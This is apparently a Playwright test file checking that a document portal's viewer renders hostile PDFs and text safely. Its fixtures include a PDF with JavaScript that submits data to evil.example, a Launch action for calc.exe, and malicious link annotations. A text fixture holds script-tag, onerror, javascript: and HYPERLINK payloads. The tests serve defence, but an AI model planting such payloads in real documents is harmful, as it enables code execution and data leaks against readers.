import { expect, type Page } from "@playwright/test";
import PDFDocument from "pdfkit";
import { buildDocument, buildFolder } from "@/prisma/seed/builders/document";
import { simplePdf } from "@/prisma/seed/builders/simple-pdf";
import { expectNoBarrier } from "@/tests/fixtures/browser/barriers";
import { openPage } from "@/tests/fixtures/browser/open-page";
import { test } from "@/tests/fixtures/browser/test";
import { buildTestAccount, type TestAccount } from "@/tests/fixtures/browser/test-account";

/** Everything that a document could set off: dialogs, windows, requests to elsewhere, reports of the security policy. */
function watched(page: Page): string[] {
  const seen: string[] = [];
  const origin = new URL(process.env.PORTAL_TEST_URL ?? "").origin;
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => seen.push(`window ${popup.url()}`));
  page.on("request", (request) => {
    const { protocol, origin: asked } = new URL(request.url());
    if (protocol.startsWith("http") && asked !== origin) seen.push(`request ${request.url()}`);
  });
  page.on("console", (message) => {
    if (message.type() === "error") seen.push(`console ${message.text()}`);
  });
  return seen;
}

/** A file from its objects, with the table that pdf.js needs. */
function rawPdf(objects: readonly string[]): Uint8Array<ArrayBuffer> {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(text, "latin1"));
}

const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;

/** Opens with a script, a program and a form that is sent; its page is one link, and has a script of its own. */
const active = rawPdf([
  "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('opened'\\); this.submitForm\\('https://evil.example/'\\);) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> >>",
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 400] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /Annots [6 0 R 7 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\('page'\\)) >> >> >>",
  stream("BT /F 40 Tf 40 200 Td (Press here) Tj ET"),
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  "<< /Type /Annot /Subtype /Link /Rect [0 0 600 400] /A << /S /URI /URI (https://evil.example/link) >> >>",
  "<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 600 400] /AA << /U << /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\)) >> >> >>",
]);

/** Text that would be a page, a link and a formula anywhere else. */
const markup = [
  "<script>alert('text')</script><img src=https://evil.example/x onerror=alert(1)>",
  "[press](javascript:alert(2)) ![](https://evil.example/pixel.png)",
  '=HYPERLINK("https://evil.example")',
].join("\n");

/** A page of 20 by 20 kilometres. */
const huge = rawPdf([
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 60000000 60000000] /Contents 4 0 R >>",
  stream("0 0 60000000 60000000 re f"),
]);

async function encrypted(): Promise<Uint8Array<ArrayBuffer>> {
  const pdf = new PDFDocument({ userPassword: "secret", pdfVersion: "1.7" });
  pdf.text("Nobody reads this");
  pdf.end();
  const parts: Buffer[] = [];
  for await (const part of pdf) parts.push(part as Buffer);
  return new Uint8Array(Buffer.concat(parts));
}

let account: TestAccount;
let folderId: string;
test.beforeAll(async ({ db }) => {
  account = await buildTestAccount(db);
  folderId = await buildFolder(db, account.id, { name: "Hostile", people: [account.contacts.billing] });
});

const drawn = (page: Page) => page.getByRole("img", { name: /^Page \d+ of \d+$/ });

test("a PDF with scripts and links is drawn, and nothing in it runs or leads anywhere", async ({ db, browserOf }) => {
  const id = await buildDocument(db, account.id, { folderId, name: "Active.pdf", contents: active });
  const page = await browserOf(account.billing);
  const seen = watched(page);
  await openPage(page, `${account.base}/documents/files/${id}`);
  await expect(drawn(page)).toBeVisible();
  await expect(page.getByText("Press here")).toBeAttached();
  const address = page.url();
  await drawn(page).click();
  await drawn(page)
    .press("Enter")
    .catch(() => {});
  await expect(page.getByRole("region", { name: "Pages of Active.pdf" }).locator("a, input, iframe")).toHaveCount(0);
  expect(page.url()).toBe(address);
  expect(seen).toEqual([]);
});

test("a page of any size is drawn within limits", async ({ db, browserOf }) => {
  const id = await buildDocument(db, account.id, { folderId, name: "Huge.pdf", contents: huge });
  const page = await browserOf(account.billing);
  const seen = watched(page);
  await openPage(page, `${account.base}/documents/files/${id}`);
  await expect(drawn(page)).toBeVisible();
  await page.getByRole("button", { name: "Zoom in" }).click();
  const pixels = () =>
    drawn(page).evaluate((canvas) => (canvas as HTMLCanvasElement).width * (canvas as HTMLCanvasElement).height);
  await expect.poll(pixels).toBeGreaterThan(100_000);
  expect(await pixels()).toBeLessThanOrEqual(12_100_000);
  expect(seen).toEqual([]);
});

const whole = simplePdf([["Minutes"], ["Decisions"]]);
test.describe("a file that can't be shown says why", () => {
  for (const [name, contents, sentence] of [
    ["Protected.pdf", encrypted(), "It is protected with a password."],
    ["Truncated.pdf", whole.slice(0, 90), "It is damaged, or not a complete PDF file."],
    ["Nonsense.pdf", new Uint8Array(Buffer.from("%PDF-1.4\nnothing of a document")), "It is damaged"],
  ] as const) {
    test(name, async ({ db, browserOf }) => {
      const id = await buildDocument(db, account.id, { folderId, name, contents: await contents });
      const page = await browserOf(account.billing);
      const seen = watched(page);
      await openPage(page, `${account.base}/documents/files/${id}`);
      await expect(page.getByText(sentence)).toBeVisible();
      await expect(page.getByRole("link", { name: "Download", exact: true })).toBeVisible();
      expect(seen).toEqual([]);
    });
  }
});

test("in a view-only folder the file itself is never sent to its reader", async ({ db, browserOf }) => {
  const people = [account.contacts.billing];
  const reading = await buildFolder(db, account.id, { name: "Reading", people, viewOnly: true });
  const id = await buildDocument(db, account.id, {
    folderId: reading,
    name: "Read.pdf",
    contents: whole,
    preview: true,
  });
  const page = await browserOf(account.billing);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await openPage(page, `${account.base}/documents/files/${id}`);
  await expect(page.getByText("You can read this file here, but not download it.")).toBeVisible();
  expect(asked.filter((path) => path.endsWith("/download") || path.startsWith("/pdfjs"))).toEqual([]);
  const refused = await page.request.get(
    `/api/v1${account.base.replace("/a/", "/accounts/")}/documents/${id}/download`,
  );
  expect(refused.status()).toBe(403);
});

test("a text is shown as it is written: its markup is no markup and its links are no links", async ({
  db,
  browserOf,
}) => {
  const contents = new TextEncoder().encode(markup);
  const id = await buildDocument(db, account.id, { folderId, name: "Notes.md", contents, text: true });
  await db.fileText.updateMany({
    where: { file: { documents: { some: { id } } } },
    data: { state: "ready", text: markup },
  });
  const page = await browserOf(account.billing);
  const seen = watched(page);
  await openPage(page, `${account.base}/documents/files/${id}`);
  const shown = page.getByRole("region", { name: "Text of Notes.md" });
  await expect(shown).toContainText("<script>alert('text')</script>");
  await expect(shown.locator("a, img, script")).toHaveCount(0);
  await expectNoBarrier(page);
  expect(seen).toEqual([]);
});
